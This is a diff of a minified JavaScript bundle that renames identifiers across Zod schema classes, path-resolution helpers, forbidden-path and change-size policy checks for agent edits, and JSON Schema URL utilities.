+{type:"literal",values:Array.isArray(t)?t:[t],...Be(e)})}const kk=null;function t2(t){return core._file(kk,t)}const vk=R(
+"ZodTransform",(t,e)=>{Ls(),Wb.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>ed(t,n,s,r),t._zod.parse=(n,s)=>{
+if(s.direction==="backward")throw new zu(t.constructor.name);n.addIssue=i=>{if(typeof i=="string")n.issues.push(Ss(i,n.value,
 e));else{const o=i;o.fatal&&(o.continue=!1),o.code??(o.code="custom"),"input"in o||(o.input=n.value),o.inst??(o.inst=t),
-n.issues.push(Ts(o))}};const r=e.transform(n.value,n);return r instanceof Promise?r.then(i=>(n.value=i,n)):(n.value=r,n)}});
-function eB(t){return new xk({type:"transform",transform:t})}const Go=N("ZodOptional",(t,e)=>{gl.init(t,e),We.init(t,e),
+n.issues.push(Ss(o))}};const r=e.transform(n.value,n);return r instanceof Promise?r.then(i=>(n.value=i,n)):(n.value=r,n)}});
+function Qd(t){return new vk({type:"transform",transform:t})}const Go=R("ZodOptional",(t,e)=>{ml.init(t,e),We.init(t,e),
 t._zod.processJSONSchema=(n,s,r)=>Fo(t,n,s,r),t.unwrap=()=>t._zod.def.innerType});function Ho(t){return new Go({type:"op\
-tional",innerType:t})}const tB=N("ZodExactOptional",(t,e)=>{Yb.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>Fo(
-t,n,s,r),t.unwrap=()=>t._zod.def.innerType});function Ok(t){return new tB({type:"optional",innerType:t})}const Ak=N("Zod\
-Nullable",(t,e)=>{Xb.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>cd(t,n,s,r),t.unwrap=()=>t._zod.def.innerType});
-function zo(t){return new Ak({type:"nullable",innerType:t})}function d2(t){return Ho(zo(t))}const Sk=N("ZodDefault",(t,e)=>{
-Qb.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>dd(t,n,s,r),t.unwrap=()=>t._zod.def.innerType,t.removeDefault=
-t.unwrap});function Tk(t,e){return new Sk({type:"default",innerType:t,get defaultValue(){return typeof e=="function"?e():
-Fu(e)}})}const Ik=N("ZodPrefault",(t,e)=>{e_.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>Bd(t,n,s,r),t.unwrap=
-()=>t._zod.def.innerType});function $k(t,e){return new Ik({type:"prefault",innerType:t,get defaultValue(){return typeof e==
-"function"?e():Fu(e)}})}const nB=N("ZodNonOptional",(t,e)=>{t_.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>ud(
-t,n,s,r),t.unwrap=()=>t._zod.def.innerType});function Rk(t,e){return new nB({type:"nonoptional",innerType:t,...Be(e)})}const Nk=null;
-function B2(t){return new Nk({type:"success",innerType:t})}const Fk=N("ZodCatch",(t,e)=>{n_.init(t,e),We.init(t,e),t._zod.
-processJSONSchema=(n,s,r)=>fd(t,n,s,r),t.unwrap=()=>t._zod.def.innerType,t.removeCatch=t.unwrap});function Lk(t,e){return new Fk(
-{type:"catch",innerType:t,catchValue:typeof e=="function"?e:Vy(e)})}const Pk=null;function f2(t){return core._nan(Pk,t)}
-const jk=N("ZodPipe",(t,e)=>{s_.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>hd(t,n,s,r),t.in=e.in,t.out=e.out});
-function sB(t,e){return new jk({type:"pipe",in:t,out:e})}const Uo=null;function h2(t,e,n){return new Uo({type:"pipe",in:t,
-out:e,transform:n.decode,reverseTransform:n.encode})}function p2(t){const e=t._zod.def;return new Uo({type:"pipe",in:e.out,
-out:e.in,transform:e.reverseTransform,reverseTransform:e.transform})}const Mk=null,Gk=N("ZodReadonly",(t,e)=>{r_.init(t,
-e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>pd(t,n,s,r),t.unwrap=()=>t._zod.def.innerType});function Hk(t){return new Gk(
-{type:"readonly",innerType:t})}const zk=null;function m2(t,e){return new zk({type:"template_literal",parts:t,...util.normalizeParams(
-e)})}const Uk=null;function Jk(t){return new Uk({type:"lazy",getter:t})}const Zk=null;function g2(t){return new Zk({type:"\
-promise",innerType:t})}const Kk=null;function C2(t){return new Kk({type:"function",input:Array.isArray(t?.input)?_k(t?.input):
-t?.input??Se(Fn()),output:t?.output??Fn()})}const Jo=N("ZodCustom",(t,e)=>{o_.init(t,e),We.init(t,e),t._zod.processJSONSchema=
-(n,s,r)=>ed(t,n,s,r)});function y2(t){const e=new core.$ZodCheck({check:"custom"});return e._zod.check=t,e}function w2(t,e){
-return core._custom(Jo,t??(()=>!0),e)}function Wk(t,e={}){return Q_(Jo,t,e)}function qk(t,e){return eE(t,e)}const b2=nE,
-_2=sE,Vk=N("ZodInstanceOf",(t,e)=>{Jo.init(t,e)},{properties(t,e){return this.check(Z_(t,e))}});function E2(t,e={}){const n=new Vk(
+tional",innerType:t})}const eB=R("ZodExactOptional",(t,e)=>{qb.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>Fo(
+t,n,s,r),t.unwrap=()=>t._zod.def.innerType});function Dk(t){return new eB({type:"optional",innerType:t})}const xk=R("Zod\
+Nullable",(t,e)=>{Vb.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>ad(t,n,s,r),t.unwrap=()=>t._zod.def.innerType});
+function zo(t){return new xk({type:"nullable",innerType:t})}function n2(t){return Ho(zo(t))}const Ok=R("ZodDefault",(t,e)=>{
+Yb.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>ld(t,n,s,r),t.unwrap=()=>t._zod.def.innerType,t.removeDefault=
+t.unwrap});function Ak(t,e){return new Ok({type:"default",innerType:t,get defaultValue(){return typeof e=="function"?e():
+Ru(e)}})}const Sk=R("ZodPrefault",(t,e)=>{Xb.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>dd(t,n,s,r),t.unwrap=
+()=>t._zod.def.innerType});function Tk(t,e){return new Sk({type:"prefault",innerType:t,get defaultValue(){return typeof e==
+"function"?e():Ru(e)}})}const tB=R("ZodNonOptional",(t,e)=>{Qb.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>cd(
+t,n,s,r),t.unwrap=()=>t._zod.def.innerType});function Ik(t,e){return new tB({type:"nonoptional",innerType:t,...Be(e)})}const $k=null;
+function s2(t){return new $k({type:"success",innerType:t})}const Nk=R("ZodCatch",(t,e)=>{e_.init(t,e),We.init(t,e),t._zod.
+processJSONSchema=(n,s,r)=>Bd(t,n,s,r),t.unwrap=()=>t._zod.def.innerType,t.removeCatch=t.unwrap});function Rk(t,e){return new Nk(
+{type:"catch",innerType:t,catchValue:typeof e=="function"?e:Wy(e)})}const Fk=null;function r2(t){return core._nan(Fk,t)}
+const Lk=R("ZodPipe",(t,e)=>{t_.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>fd(t,n,s,r),t.in=e.in,t.out=e.out});
+function nB(t,e){return new Lk({type:"pipe",in:t,out:e})}const Uo=null;function i2(t,e,n){return new Uo({type:"pipe",in:t,
+out:e,transform:n.decode,reverseTransform:n.encode})}function o2(t){const e=t._zod.def;return new Uo({type:"pipe",in:e.out,
+out:e.in,transform:e.reverseTransform,reverseTransform:e.transform})}const Pk=null,jk=R("ZodReadonly",(t,e)=>{n_.init(t,
+e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>hd(t,n,s,r),t.unwrap=()=>t._zod.def.innerType});function Mk(t){return new jk(
+{type:"readonly",innerType:t})}const Gk=null;function a2(t,e){return new Gk({type:"template_literal",parts:t,...util.normalizeParams(
+e)})}const Hk=null;function zk(t){return new Hk({type:"lazy",getter:t})}const Uk=null;function c2(t){return new Uk({type:"\
+promise",innerType:t})}const Jk=null;function u2(t){return new Jk({type:"function",input:Array.isArray(t?.input)?wk(t?.input):
+t?.input??Se(Fn()),output:t?.output??Fn()})}const Jo=R("ZodCustom",(t,e)=>{r_.init(t,e),We.init(t,e),t._zod.processJSONSchema=
+(n,s,r)=>Ql(t,n,s,r)});function l2(t){const e=new core.$ZodCheck({check:"custom"});return e._zod.check=t,e}function d2(t,e){
+return core._custom(Jo,t??(()=>!0),e)}function Zk(t,e={}){return Y_(Jo,t,e)}function Kk(t,e){return X_(t,e)}const B2=eE,
+f2=tE,Wk=R("ZodInstanceOf",(t,e)=>{Jo.init(t,e)},{properties(t,e){return this.check(U_(t,e))}});function h2(t,e={}){const n=new Wk(
 {type:"custom",check:"custom",fn:s=>s instanceof t,abort:!0,...util.normalizeParams(e)});return n._zod.bag.Class=t,n._zod.
 check=s=>{s.value instanceof t||s.issues.push({code:"invalid_type",expected:t.name,input:s.value,inst:n,path:[...n._zod.
-def.path??[]]})},n}const k2=(...t)=>core._stringbool({Codec:Uo,Boolean:Vd,String:Sd},...t);function v2(t){const e=Jk(()=>Qd(
-[me(t),Ms(),an(),uk(),Se(e),vn(me(),e)]));return e}function D2(t,e){return new Mk({type:"pipe",in:eB(t),out:e})}const Yk=/[\p{Cf}\p{Default_Ignorable_Code_Point}]/gu;
-function Xk(t,e){const s=t.replace(Yk,"").replace(/:.*$/s,"").replace(/[. ]+$/,"").normalize("NFC").toUpperCase().toLowerCase();
-return s===e||ev(s,e)}const Qk=/^[\w./-]*$/;function rB(t,e){return!Qk.test(t)||t.toLowerCase().includes(e)}function ev(t,e){
-const[,n]=/^(.+)~[1-9]\d{0,5}$/.exec(t)??[];return n!==void 0&&n===e.replaceAll(".","").slice(0,6)}const iB=40,Zo={path:"",
-kind:"directory",tracked:!0},oB=/^[A-Za-z]:/,aB=/^[\w-][\w.-]*(?:\/[\w-][\w.-]*)*$/;function xe(t){if(aB.test(t))return t;
+def.path??[]]})},n}const p2=(...t)=>core._stringbool({Codec:Uo,Boolean:qd,String:Ad},...t);function m2(t){const e=zk(()=>Xd(
+[me(t),js(),an(),ak(),Se(e),vn(me(),e)]));return e}function g2(t,e){return new Pk({type:"pipe",in:Qd(t),out:e})}const qk=/[\p{Cf}\p{Default_Ignorable_Code_Point}]/gu;
+function Vk(t,e){const s=t.replace(qk,"").replace(/:.*$/s,"").replace(/[. ]+$/,"").normalize("NFC").toUpperCase().toLowerCase();
+return s===e||Xk(s,e)}const Yk=/^[\w./-]*$/;function sB(t,e){return!Yk.test(t)||t.toLowerCase().includes(e)}function Xk(t,e){
+const[,n]=/^(.+)~[1-9]\d{0,5}$/.exec(t)??[];return n!==void 0&&n===e.replaceAll(".","").slice(0,6)}const rB=40,Zo={path:"",
+kind:"directory",tracked:!0},iB=/^[A-Za-z]:/,oB=/^[\w-][\w.-]*(?:\/[\w-][\w.-]*)*$/;function xe(t){if(oB.test(t))return t;
 const e=t.replaceAll("\\","/");if(e.startsWith("/")||e.includes("\0"))return;const n=[];for(const s of e.split("/"))if(!(s===
-""||s===".")){if(s!=="..")n.push(s);else if(n.pop()===void 0)return}return oB.test(e)||oB.test(n[0]??"")?void 0:n.join("\
+""||s===".")){if(s!=="..")n.push(s);else if(n.pop()===void 0)return}return iB.test(e)||iB.test(n[0]??"")?void 0:n.join("\
 /")}function Je(t,e){if(e.startsWith("/")||e.includes("\0"))return{kind:"outside",path:e};const n=e.split("/").reverse(),
 s=[];let r=Zo,i=0;for(let o=n.pop();o!==void 0;o=n.pop()){if(o===""||o===".")continue;if(r.kind!=="directory")return{kind:"\
-missing",path:[...s,o].join("/")};if(o===".."){if(s.pop()===void 0)return{kind:"outside",path:e};r=tv(s);continue}const a=[
+missing",path:[...s,o].join("/")};if(o===".."){if(s.pop()===void 0)return{kind:"outside",path:e};r=Qk(s);continue}const a=[
 ...s,o].join("/"),c=t.stat(a);if(c===void 0)return{kind:"missing",path:a};if(c.kind!=="symlink"){s.push(o),r=c;continue}
-if(i+=1,i>iB)return{kind:"loop",path:e};const l=t.readlink(a);if(l===void 0||l===""||l.length>cB)return{kind:"missing",path:a};
+if(i+=1,i>rB)return{kind:"loop",path:e};const l=t.readlink(a);if(l===void 0||l===""||l.length>aB)return{kind:"missing",path:a};
 if(l.startsWith("/")||l.includes("\0"))return{kind:"outside",path:a};n.push(...l.split("/").reverse())}return{kind:"insi\
-de",path:r.path,entry:r}}function tv(t){return t.length===0?Zo:{...Zo,path:t.join("/")}}function xt(t,e,{ignoreCase:n=!1}={}){
-const s=xe(t),r=xe(e);return s===void 0||r===void 0?!1:lB(r,s,n)}function zs(t,e,{at:n,tree:s}){if(uB(t))return;const i=(Mr(
-t)??[...Mr(e)??[],...Wo(t)]).reverse(),o=Ko((Mr(n)??[]).filter(l=>l!=="")),a=[];let c=0;for(let l=i.pop();l!==void 0;l=i.
-pop()){if(l===""||l===".")continue;if(l===".."){a.pop();continue}a.push(l);const u=s&&nv(s,o,Ko(a));if(u===void 0)continue;
-if(c+=1,c>iB||uB(u))return;const d=Mr(u);d===void 0?a.pop():a.length=0,i.push(...(d??Wo(u)).reverse())}return Ko(a)}function jr(t,e,{
-ignoreCase:n=!1}={}){return lB(e.slice(1),t.slice(1),n)}function nv(t,e,n){if(jr(n,e))return t.readlink(e==="/"?n.slice(
-1):n.slice(e.length+1))}function Ko(t){return`/${t.join("/")}`}function Wo(t){return t.replaceAll("\\","/").split("/")}function Mr(t){
-return/^(?:[\\/]|[A-Za-z]:[\\/])/.test(t)?Wo(t):void 0}const cB=4096;function uB(t){return t.length>cB?!0:t.includes("\0")||
-/^(?:\\\\|[A-Za-z]:(?![\\/]))/.test(t)}function lB(t,e,n){if(t==="")return!0;const[s,r]=n?[Gr(e),Gr(t)]:[e,t];return s===
-r||s.startsWith(`${r}/`)}function Gr(t){return aB.test(t)?t.toLowerCase():t.normalize("NFC").toUpperCase().toLowerCase()}
-function sv(t,e){const n=xe(t);if(n!==void 0)return`/${Gr(n)}/`.includes(`/${Gr(e)}/`);const s=t.split("/");return s.some(
-(r,i)=>xt(s.slice(i).join("/"),e,{ignoreCase:!0}))}function rv(t){return/[*?]|^!|\{[^{}]*,[^{}]*\}|^["'`].*["'`]$/.test(
-t)||t.trim()!==t}const iv=["assets/gep/events.jsonl",".evolver/gep/events.jsonl"],x2=null;function ov(t){return rB(t,"ev\
-ents.jsonl")&&iv.some(e=>sv(t,e))}const Hr=10,dB=13,av=new Set([32,9,Hr,dB]);function O2(t,e){const n=qo(t),s=qo(e);let r=0;
-for(let i=n.next().value;i;){const o=n.next().value,a=s.next().value;if(!a||!uv(i.bytes,a.bytes,o===void 0))return{kind:"\
-rewritten",line:i.line};r=a.end,i=o}return{kind:"appended",from:r}}function A2(t){return qo(t).next().value!==void 0}function*qo(t){
-let e=0;for(let n=0;n<t.length;){const s=t.indexOf(Hr,n),r=s<0?t.length:s,i=t.subarray(n,r);n=Math.min(r+1,t.length),e+=
-1,cv(i)||(yield{bytes:i,line:e,end:n})}}function cv(t){for(const e of t)if(!av.has(e))return!1;return!0}function uv(t,e,n){
-return n?BB(t).equals(BB(e)):t.equals(e)}function BB(t){return t.at(-1)===dB?t.subarray(0,-1):t}function S2(t,e){let n=0;
-for(let s=t.indexOf(Hr);s>=0&&s<e;s=t.indexOf(Hr,s+1))n+=1;return n}const Vo=20;function T2(t,e){const n={files:0,lines:0,
+de",path:r.path,entry:r}}function Qk(t){return t.length===0?Zo:{...Zo,path:t.join("/")}}function xt(t,e,{ignoreCase:n=!1}={}){
+const s=xe(t),r=xe(e);return s===void 0||r===void 0?!1:uB(r,s,n)}function Hs(t,e,{at:n,tree:s}){if(cB(t))return;const i=(Pr(
+t)??[...Pr(e)??[],...Wo(t)]).reverse(),o=Ko((Pr(n)??[]).filter(l=>l!=="")),a=[];let c=0;for(let l=i.pop();l!==void 0;l=i.
+pop()){if(l===""||l===".")continue;if(l===".."){a.pop();continue}a.push(l);const u=s&&ev(s,o,Ko(a));if(u===void 0)continue;
+if(c+=1,c>rB||cB(u))return;const d=Pr(u);d===void 0?a.pop():a.length=0,i.push(...(d??Wo(u)).reverse())}return Ko(a)}function Lr(t,e,{
+ignoreCase:n=!1}={}){return uB(e.slice(1),t.slice(1),n)}function ev(t,e,n){if(Lr(n,e))return t.readlink(e==="/"?n.slice(
+1):n.slice(e.length+1))}function Ko(t){return`/${t.join("/")}`}function Wo(t){return t.replaceAll("\\","/").split("/")}function Pr(t){
+return/^(?:[\\/]|[A-Za-z]:[\\/])/.test(t)?Wo(t):void 0}const aB=4096;function cB(t){return t.length>aB?!0:t.includes("\0")||
+/^(?:\\\\|[A-Za-z]:(?![\\/]))/.test(t)}function uB(t,e,n){if(t==="")return!0;const[s,r]=n?[jr(e),jr(t)]:[e,t];return s===
+r||s.startsWith(`${r}/`)}function jr(t){return oB.test(t)?t.toLowerCase():t.normalize("NFC").toUpperCase().toLowerCase()}
+function tv(t,e){const n=xe(t);if(n!==void 0)return`/${jr(n)}/`.includes(`/${jr(e)}/`);const s=t.split("/");return s.some(
+(r,i)=>xt(s.slice(i).join("/"),e,{ignoreCase:!0}))}function nv(t){return/[*?]|^!|\{[^{}]*,[^{}]*\}|^["'`].*["'`]$/.test(
+t)||t.trim()!==t}const sv=["assets/gep/events.jsonl",".evolver/gep/events.jsonl"],C2=null;function rv(t){return sB(t,"ev\
+ents.jsonl")&&sv.some(e=>tv(t,e))}const Mr=10,lB=13,iv=new Set([32,9,Mr,lB]);function y2(t,e){const n=qo(t),s=qo(e);let r=0;
+for(let i=n.next().value;i;){const o=n.next().value,a=s.next().value;if(!a||!av(i.bytes,a.bytes,o===void 0))return{kind:"\
+rewritten",line:i.line};r=a.end,i=o}return{kind:"appended",from:r}}function w2(t){return qo(t).next().value!==void 0}function*qo(t){
+let e=0;for(let n=0;n<t.length;){const s=t.indexOf(Mr,n),r=s<0?t.length:s,i=t.subarray(n,r);n=Math.min(r+1,t.length),e+=
+1,ov(i)||(yield{bytes:i,line:e,end:n})}}function ov(t){for(const e of t)if(!iv.has(e))return!1;return!0}function av(t,e,n){
+return n?dB(t).equals(dB(e)):t.equals(e)}function dB(t){return t.at(-1)===lB?t.subarray(0,-1):t}function b2(t,e){let n=0;
+for(let s=t.indexOf(Mr);s>=0&&s<e;s=t.indexOf(Mr,s+1))n+=1;return n}const Vo=20;function _2(t,e){const n={files:0,lines:0,
 exempt_files:0,exempt_lines:0};for(const s of t.files){const{path:r,oldPath:i}=s,o=i===void 0?1:2,a=Number(e.has(r))+Number(
-i!==void 0&&e.has(i));n.files+=o-a,n.exempt_files+=a,a===o?n.exempt_lines+=hB(s):n.lines+=hB(s)}return n}function I2({files:t,
-lines:e,exempt_files:n,exempt_lines:s},r){return r==="reference"?{files:t,lines:e}:{files:t+n,lines:e+s}}function lv(t,e,n,s){
-const r=fB(e);return n.files>s.files||n.lines>s.lines?"hard_cap_breach":t>2*r?"critical_overrun":t>r?"exceeded":t>.8*r?"\
-approaching_limit":"within_limit"}function dv(t,{files:e,lines:n},s,r){const i=fB(s);switch(t){case"hard_cap_breach":return`\
+i!==void 0&&e.has(i));n.files+=o-a,n.exempt_files+=a,a===o?n.exempt_lines+=fB(s):n.lines+=fB(s)}return n}function E2({files:t,
+lines:e,exempt_files:n,exempt_lines:s},r){return r==="reference"?{files:t,lines:e}:{files:t+n,lines:e+s}}function cv(t,e,n,s){
+const r=BB(e);return n.files>s.files||n.lines>s.lines?"hard_cap_breach":t>2*r?"critical_overrun":t>r?"exceeded":t>.8*r?"\
+approaching_limit":"within_limit"}function uv(t,{files:e,lines:n},s,r){const i=BB(s);switch(t){case"hard_cap_breach":return`\
 HARD CAP BREACH: ${e} files / ${n} lines exceeds system limit (${r.files} files / ${r.lines} lines)`;case"critical_overr\
 un":return`CRITICAL OVERRUN: ${e} files > ${2*i} (2x limit of ${i}). Agent likely performed bulk/unintended operation.`;case"\
 exceeded":return`max_files exceeded: ${e} > ${i}`;case"approaching_limit":return`approaching limit: ${e} / ${i} files (${Math.
-round(e/i*100)}%)`;case"within_limit":return`${e} / ${i} files`}}function fB(t){return typeof t=="number"&&t>0?t:Vo}const Bv=/^[^/]+(?:\/[^/]+(?=\/))?(?=\/)/;
-function $2(t,e){const n=new Map;for(const{path:s,lines:r,exempt:i}of t){const o=Bv.exec(s)?.[0]??".",a=n.get(o)??{path:o,
+round(e/i*100)}%)`;case"within_limit":return`${e} / ${i} files`}}function BB(t){return typeof t=="number"&&t>0?t:Vo}const lv=/^[^/]+(?:\/[^/]+(?=\/))?(?=\/)/;
+function k2(t,e){const n=new Map;for(const{path:s,lines:r,exempt:i}of t){const o=lv.exec(s)?.[0]??".",a=n.get(o)??{path:o,
 files:0,lines:0};a.files+=1,a.lines+=r,i&&(a.exempt_files=(a.exempt_files??0)+1,a.exempt_lines=(a.exempt_lines??0)+r),n.
-set(o,a)}return[...n.values()].sort((s,r)=>r.files-s.files||r.lines-s.lines||(s.path<r.path?-1:1)).slice(0,e)}function R2(t){
-return t.oldPath===void 0?[t.path]:[t.path,t.oldPath]}function hB(t){return t.added+t.deleted}var Oe=Te(561);function N2(t,e){
-return t.files.flatMap(n=>namesOf(n).map(s=>({path:s,via:s===n.path&&n.newMode===fv?pv(e,s):""})))}function F2(t,e){const n=new Map;
-return s=>{const r=n.get(s)??hv(t,mv(e,s));return n.set(s,r),r}}function L2(t){return{location:{path:t,line:1,column:1}}}
-const fv="120000";function hv(t,e){const n=s=>e.some(r=>isWithin(s,r));return t.flatMap(s=>n(s.path)?[{path:s.path,via:""}]:
-s.via!==""&&n(s.via)?[s]:[])}function pv(t,e){const n=resolveInTree(t,e);return n.kind==="inside"||n.kind==="missing"?n.
-path:""}function mv(t,e){const n=resolveInTree(t,e);return n.kind==="inside"?[e,n.path]:[e]}const Yo=3;function P2(t){const e=t.
-length-Yo;return t.slice(0,Yo).map((n,s)=>e>0&&s===Yo-1?{...n,more:e}:n)}const pB=[".git","node_modules"];function Xo(t){
-const e=pB.filter(s=>rB(t,s));if(e.length===0)return;const n=(xe(t)??t).split("/");return e.find(s=>n.some(r=>Xk(r,s)))}
-function j2({touched:t,touchesOf:e,policy:n}){const s=t.flatMap(gv),r=pB.flatMap(o=>someTouches(s.flatMap(({touch:a,...c})=>c.
+set(o,a)}return[...n.values()].sort((s,r)=>r.files-s.files||r.lines-s.lines||(s.path<r.path?-1:1)).slice(0,e)}function v2(t){
+return t.oldPath===void 0?[t.path]:[t.path,t.oldPath]}function fB(t){return t.added+t.deleted}var Oe=Te(561);function D2(t,e){
+return t.files.flatMap(n=>namesOf(n).map(s=>({path:s,via:s===n.path&&n.newMode===dv?fv(e,s):""})))}function x2(t,e){const n=new Map;
+return s=>{const r=n.get(s)??Bv(t,hv(e,s));return n.set(s,r),r}}function O2(t){return{location:{path:t,line:1,column:1}}}
+const dv="120000";function Bv(t,e){const n=s=>e.some(r=>isWithin(s,r));return t.flatMap(s=>n(s.path)?[{path:s.path,via:""}]:
+s.via!==""&&n(s.via)?[s]:[])}function fv(t,e){const n=resolveInTree(t,e);return n.kind==="inside"||n.kind==="missing"?n.
+path:""}function hv(t,e){const n=resolveInTree(t,e);return n.kind==="inside"?[e,n.path]:[e]}const Yo=3;function A2(t){const e=t.
+length-Yo;return t.slice(0,Yo).map((n,s)=>e>0&&s===Yo-1?{...n,more:e}:n)}const hB=[".git","node_modules"];function Xo(t){
+const e=hB.filter(s=>sB(t,s));if(e.length===0)return;const n=(xe(t)??t).split("/");return e.find(s=>n.some(r=>Vk(r,s)))}
+function S2({touched:t,touchesOf:e,policy:n}){const s=t.flatMap(pv),r=hB.flatMap(o=>someTouches(s.flatMap(({touch:a,...c})=>c.
 directory===o?a:[])).map(a=>finding("forbidden-path",{entry:o,by:"nothing may touch",...a},atFile(a.path)))),i=n.blast_radius.
 forbidden_paths.flatMap(o=>someTouches(e(o)).map(a=>finding("forbidden-path",{entry:o,by:"the policy forbids",...a},atFile(
-a.path))));return[...r,...i]}function gv({path:t,via:e}){const n=Xo(t),s=n??Xo(e);return s===void 0?[]:[{directory:s,touch:{
-path:t,via:n===void 0?e:""}}]}function M2(t){return`${t.startsWith("E")?"an":"a"} ${t}`}function cn(t){return typeof t==
-"object"&&t!==null&&!Array.isArray(t)}function G2(t){return t.map(e=>`/${String(e).replaceAll("~","~0").replaceAll("/","\
-~1")}`).join("")}function Cv({type:t,id:e}){return{type:t,id:e}}function Qo(t,e=[]){return{location:t.locate(e),subject:Cv(
-t)}}function H2(t){return(e,...n)=>isChange(e)?t(e,...n):[]}async function z2(t,e,...n){const s=Object.entries(t).map(async([
-r,i])=>{try{return await i(e,...n)}catch(o){return[yv(r,o,n)]}});return(await Promise.all(s)).flat()}function yv(t,e,[n]){
-return n===void 0?notJudged(`the change; the check "${t}" failed`,e):wv(n.asset,e,`; the check "${t}" failed`)}function wv(t,e,n=""){
-const s=`the ${t.type} \`${t.id}\`${n}`;return notJudged(s,e,bv(t))}function bv(t){try{return placeOf(t)}catch{return{location:{
-path:t.path,line:1,column:1},subject:subjectOf(t)}}}function _v(t,{path:e,detail:n},s){return(0,Oe.gk)("claim-not-checke\
-d",{claim:t,why:`${n} of the log \`${e}\``},s)}function zt(t){return encodeURI(Ev(t)).replace(/#/g,"%23")}function Ev(t){
-return t.replace(/~/g,"~0").replace(/\//g,"~1")}const kv=/^[A-Za-z0-9._~!$&'()*+,;=:@/?-]$/,vv=/^%[0-9A-Fa-f]{2}$/,Dv=/^[A-Za-z0-9._~-]$/;
-function xv(t){let e="";for(let n=0;n<t.length;){const s=t[n],r=t.slice(n,n+3);if(s==="%"&&vv.test(r)){const o=String.fromCharCode(
-parseInt(r.slice(1),16));e+=Dv.test(o)?o:r.toUpperCase(),n+=3;continue}const i=String.fromCodePoint(t.codePointAt(n));e+=
-kv.test(i)?i:encodeURIComponent(i),n+=i.length}return e}function zr(t,e){const n=new URL(t,e.href);return n.hash=n.hash?
-xv(n.hash.slice(1)):"",n}const U2={additionalItems:!0,unevaluatedItems:!0,items:!0,contains:!0,additionalProperties:!0,unevaluatedProperties:!0,
-propertyNames:!0,not:!0,if:!0,then:!0,else:!0},Ov={prefixItems:!0,items:!0,allOf:!0,anyOf:!0,oneOf:!0},Av={$defs:!0,definitions:!0,
-properties:!0,patternProperties:!0,dependentSchemas:!0},Sv={id:!0,$id:!0,$ref:!0,$schema:!0,$anchor:!0,$vocabulary:!0,$comment:!0,
+a.path))));return[...r,...i]}function pv({path:t,via:e}){const n=Xo(t),s=n??Xo(e);return s===void 0?[]:[{directory:s,touch:{
+path:t,via:n===void 0?e:""}}]}function T2(t){return`${t.startsWith("E")?"an":"a"} ${t}`}function cn(t){return typeof t==
+"object"&&t!==null&&!Array.isArray(t)}function I2(t){return t.map(e=>`/${String(e).replaceAll("~","~0").replaceAll("/","\
+~1")}`).join("")}function mv({type:t,id:e}){return{type:t,id:e}}function Qo(t,e=[]){return{location:t.locate(e),subject:mv(
+t)}}function $2(t){return(e,...n)=>isChange(e)?t(e,...n):[]}async function N2(t,e,...n){const s=Object.entries(t).map(async([
+r,i])=>{try{return await i(e,...n)}catch(o){return[gv(r,o,n)]}});return(await Promise.all(s)).flat()}function gv(t,e,[n]){
+return n===void 0?notJudged(`the change; the check "${t}" failed`,e):Cv(n.asset,e,`; the check "${t}" failed`)}function Cv(t,e,n=""){
+const s=`the ${t.type} \`${t.id}\`${n}`;return notJudged(s,e,yv(t))}function yv(t){try{return placeOf(t)}catch{return{location:{
+path:t.path,line:1,column:1},subject:subjectOf(t)}}}function wv(t,{path:e,detail:n},s){return(0,Oe.gk)("claim-not-checke\
+d",{claim:t,why:`${n} of the log \`${e}\``},s)}function zt(t){return encodeURI(bv(t)).replace(/#/g,"%23")}function bv(t){
+return t.replace(/~/g,"~0").replace(/\//g,"~1")}const _v=/^[A-Za-z0-9._~!$&'()*+,;=:@/?-]$/,Ev=/^%[0-9A-Fa-f]{2}$/,kv=/^[A-Za-z0-9._~-]$/;
+function vv(t){let e="";for(let n=0;n<t.length;){const s=t[n],r=t.slice(n,n+3);if(s==="%"&&Ev.test(r)){const o=String.fromCharCode(
+parseInt(r.slice(1),16));e+=kv.test(o)?o:r.toUpperCase(),n+=3;continue}const i=String.fromCodePoint(t.codePointAt(n));e+=
+_v.test(i)?i:encodeURIComponent(i),n+=i.length}return e}function Gr(t,e){const n=new URL(t,e.href);return n.hash=n.hash?
+vv(n.hash.slice(1)):"",n}const R2={additionalItems:!0,unevaluatedItems:!0,items:!0,contains:!0,additionalProperties:!0,unevaluatedProperties:!0,
+propertyNames:!0,not:!0,if:!0,then:!0,else:!0},Dv={prefixItems:!0,items:!0,allOf:!0,anyOf:!0,oneOf:!0},xv={$defs:!0,definitions:!0,
+properties:!0,patternProperties:!0,dependentSchemas:!0},Ov={id:!0,$id:!0,$ref:!0,$schema:!0,$anchor:!0,$vocabulary:!0,$comment:!0,
 default:!0,enum:!0,const:!0,required:!0,dependentRequired:!0,type:!0,maximum:!0,minimum:!0,exclusiveMaximum:!0,exclusiveMinimum:!0,
 multipleOf:!0,maxLength:!0,minLength:!0,pattern:!0,format:!0,maxItems:!0,minItems:!0,uniqueItems:!0,maxProperties:!0,minProperties:!0};
-let Tv=typeof self<"u"&&self.location&&self.location.origin!=="null"?new URL(self.location.origin+self.location.pathname+
-location.search):new URL("https://github.com/cfworker");function Ln(t,e=Object.create(null),n=Tv,s=""){if(t&&typeof t=="\
-object"&&!Array.isArray(t)){const i=t.$id||t.id;if(i){const o=zr(i,n);o.hash.length>1?e[o.href]=t:(o.hash="",s===""?n=o:
+let Av=typeof self<"u"&&self.location&&self.location.origin!=="null"?new URL(self.location.origin+self.location.pathname+
+location.search):new URL("https://github.com/cfworker");function Ln(t,e=Object.create(null),n=Av,s=""){if(t&&typeof t=="\
+object"&&!Array.isArray(t)){const i=t.$id||t.id;if(i){const o=Gr(i,n);o.hash.length>1?e[o.href]=t:(o.hash="",s===""?n=o:
